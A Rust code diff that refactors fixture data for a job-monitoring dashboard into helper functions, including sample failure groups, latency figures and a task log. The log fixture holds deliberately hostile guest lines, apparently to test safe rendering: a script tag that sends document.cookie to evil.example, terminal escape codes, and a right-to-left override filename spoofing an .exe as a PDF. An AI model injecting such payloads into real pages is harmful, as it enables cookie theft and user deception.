@@ -190,6 +190,48 @@ fn strip() -> Strip {
     }
 }
 
+fn failures() -> Vec<FailureGroup> {
+    vec![
+        group(
+            "trap",
+            1_912,
+            "panicked at src/tile.rs:88:14: index out of bounds: the len is 65536 but the \
+                 index is 65536",
+            9_113,
+        ),
+        group("limit(fuel)", 388, "used 2G of 2G allowed", 40_961),
+        group("rejected", 41, &format!("no such tile: {HOSTILE}"), 77_120),
+        group("limit(deadline)", 9, "used 10s of 10s allowed", 812_004),
+        group("lost", 4, "the worker was not heard of for 10s, 3 times", 15),
+    ]
+}
+
+fn latency() -> Latency {
+    let window = (ago(235), NOW);
+    Latency {
+        p50_us: 6_900,
+        p99_us: 38_000,
+        line: Line::new(
+            "Time of a task: p50 6.9ms, p99 38ms",
+            Axis::LogTime,
+            window,
+            wave(6_900.0, 500.0, 48, 6),
+        )
+        .with_second(wave(45_000.0, 16_000.0, 48, 7)),
+    }
+}
+
+fn peak() -> Used {
+    Used {
+        fuel: Some(2_000_000_000),
+        wall_us: Some(10_000_000),
+        memory: Some(40_055_603),
+        output: Some(219_136),
+        record: Some(0),
+        log: Some(1_127),
+    }
+}
+
 /// A job of ten million tasks that runs.
 pub fn job() -> Job {
     let window = (ago(235), NOW);
@@ -212,19 +254,7 @@ pub fn job() -> Job {
         left: Left::About(Millis(86_000)),
         running: Some(252),
         diverged: 0,
-        failures: vec![
-            group(
-                "trap",
-                1_912,
-                "panicked at src/tile.rs:88:14: index out of bounds: the len is 65536 but the \
-                 index is 65536",
-                9_113,
-            ),
-            group("limit(fuel)", 388, "used 2G of 2G allowed", 40_961),
-            group("rejected", 41, &format!("no such tile: {HOSTILE}"), 77_120),
-            group("limit(deadline)", 9, "used 10s of 10s allowed", 812_004),
-            group("lost", 4, "the worker was not heard of for 10s, 3 times", 15),
-        ],
+        failures: failures(),
         failures_other: 0,
         failures_links: vec![
             ("/v1/jobs/4182/results?outcome=failed".into(), "Inputs of all that failed (NDJSON)"),
@@ -234,17 +264,7 @@ pub fn job() -> Job {
             Line::new("Tasks per second since the submission", Axis::Number, window, rate)
                 .with_failed(wave(10.0, 9.0, 48, 5)),
         ),
-        latency: Some(Latency {
-            p50_us: 6_900,
-            p99_us: 38_000,
-            line: Line::new(
-                "Time of a task: p50 6.9ms, p99 38ms",
-                Axis::LogTime,
-                window,
-                wave(6_900.0, 500.0, 48, 6),
-            )
-            .with_second(wave(45_000.0, 16_000.0, 48, 7)),
-        }),
+        latency: Some(latency()),
         strip: Some(strip()),
         strip_note: "A row is a worker, its height its slots, a column 1.5s. What is empty was \
                      idle."
@@ -263,14 +283,7 @@ pub fn job() -> Job {
                 .say(" (1,936 tasks, weight 1)"),
             help: Prose::new("it continues when tasks end; more workers make that sooner"),
         }],
-        peak: Used {
-            fuel: Some(2_000_000_000),
-            wall_us: Some(10_000_000),
-            memory: Some(40_055_603),
-            output: Some(219_136),
-            record: Some(0),
-            log: Some(1_127),
-        },
+        peak: peak(),
         reached: Reached { fuel: 388, time: 9, ..Reached::default() },
         module: Module {
             size: Some(ByteCount(149_094)),
@@ -364,6 +377,25 @@ fn attempt(number: u32, class: OutcomeClass, word: &'static str, said: Prose) ->
     }
 }
 
+fn log() -> Log {
+    Log {
+        attempt: 2,
+        before: 4_102,
+        lines: [
+            "tile z=16 x=65536 y=9113",
+            "name: <script>fetch(\"//evil.example/\"+document.cookie)</script>",
+            "\u{1b}[31mred alert\u{1b}[0m and a bell \u{7}",
+            "invoice_\u{202e}fdp.exe \u{2066}isolated\u{2069} zero\u{200b}width",
+            HOSTILE,
+            "panicked at src/tile.rs:88:14:",
+            "index out of bounds: the len is 65536 but the index is 65536",
+        ]
+        .map(Guest::new)
+        .into(),
+        dropped: 1_204,
+    }
+}
+
 /// A task that ended with a trap.
 pub fn task() -> Task {
     let backtrace = "0: tiles::tile::iterate (src/tile.rs:88)\n1: tiles::tile::row \
@@ -402,22 +434,7 @@ pub fn task() -> Task {
             ),
         ],
         attempts_dropped: 0,
-        log: Log {
-            attempt: 2,
-            before: 4_102,
-            lines: [
-                "tile z=16 x=65536 y=9113",
-                "name: <script>fetch(\"//evil.example/\"+document.cookie)</script>",
-                "\u{1b}[31mred alert\u{1b}[0m and a bell \u{7}",
-                "invoice_\u{202e}fdp.exe \u{2066}isolated\u{2069} zero\u{200b}width",
-                HOSTILE,
-                "panicked at src/tile.rs:88:14:",
-                "index out of bounds: the len is 65536 but the index is 65536",
-            ]
-            .map(Guest::new)
-            .into(),
-            dropped: 1_204,
-        },
+        log: log(),
         input: Some(ShownBytes {
             bytes: 69,
             kind: "JSON",
